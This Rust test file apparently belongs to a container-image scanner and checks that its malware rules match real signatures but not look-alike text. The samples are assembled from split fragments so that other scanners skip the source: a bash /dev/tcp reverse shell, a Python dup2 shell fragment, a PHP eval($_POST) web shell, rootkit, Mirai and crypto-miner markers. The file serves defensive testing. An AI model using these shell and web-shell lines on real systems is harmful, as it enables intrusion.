//! Each built-in malware rule matches what it is about, and not what only resembles it. The texts are put together here,
//! so that scanners leave this source alone.

use crate::fixture::{Image, Tar, eicar, elf};
use certify::evidence::MatchKind;

fn rules_of(data: &[u8]) -> Vec<String> {
    let evidence = Image::new().layer(Tar::default().file("f", 0o644, data)).gather();
    let name = |found: &certify::evidence::Match| match &found.kind {
        MatchKind::Malware(name) | MatchKind::Miner(name) => Some(name.clone()),
        MatchKind::Secret { .. } => None,
    };
    evidence.matches.iter().filter_map(name).collect()
}

fn program(parts: &[&str]) -> Vec<u8> {
    [elf(62), parts.join("\0").into_bytes()].concat()
}

#[test]
fn what_is_malware_is_told_by_its_rule() {
    let pool = ["stratum", "+tcp://pool.example.net:3333"].concat();
    let dup = ["os.dup2(s", ".fileno(),"].concat();
    for (data, rule) in [
        (eicar(), "eicar_test_file"),
        (["<?php @ev", "al($_POST['c']); ?>"].concat().into_bytes(), "webshell_php_eval"),
        (
            ["<?php $b3", "74k = gzin", "flate(base64_", "decode('…'));"]
                .concat()
                .replace("$b374k", "/* b374k */ $x")
                .into_bytes(),
            "webshell_b374k",
        ),
        (["bash -i >& /de", "v/tcp/203.0.113.9/4444 0>&1"].concat().into_bytes(), "reverse_shell_bash"),
        (format!("{dup}0);{dup}1);{dup}2);p=call(['/bin/sh','-i'])").into_bytes(), "reverse_shell_python"),
        (program(&["diamor", "phine_init"]).into_iter().filter(|&b| b != 0).collect::<Vec<u8>>(), ""),
        (program(&[&["diamor", "phine_init"].concat(), "give_root"]), "rootkit_diamorphine"),
        (program(&[&["/bin/busybox ", "MIRAI"].concat()]), "botnet_mirai_loader"),
        (pool.clone().into_bytes(), "miner_pool_url"),
        (
            program(&[&["xm", "rig"].concat(), &["donate", "-level"].concat(), &["random", "x"].concat()]),
            "miner_xmrig_program",
        ),
    ] {
        let expected: Vec<String> = if rule.is_empty() { Vec::new() } else { vec![rule.to_owned()] };
        assert_eq!(rules_of(&data), expected, "{}", String::from_utf8_lossy(&data));
    }
}

#[test]
fn what_only_resembles_malware_is_none() {
    let texts = [
        // Longer than the standard allows, so it is a text about it.
        [&eicar()[..], &[b' '; 200]].concat(),
        ["// ev", "al($_POST['c']) is what web shells do"].concat().into_bytes(),
        ["<?php $x = $_POST['c']; evaluate($x);"].concat().into_bytes(),
        ["exec 3<>/de", "v/tcp/example.net/80"].concat().into_bytes(),
        ["os.dup2(s", ".fileno(),0)"].concat().into_bytes(),
        b"/de\x76/tcp/host/port is opened by bash -i".to_vec(),
        ["the drug diamor", "phine_x and give_root"].concat().into_bytes(),
        b"Toyota MIRAI, busybox".to_vec(),
        ["see b3", "74k in the list of web shells"].concat().into_bytes(),
    ];
    for text in texts {
        assert_eq!(rules_of(&text), [""; 0], "{}", String::from_utf8_lossy(&text));
    }
}
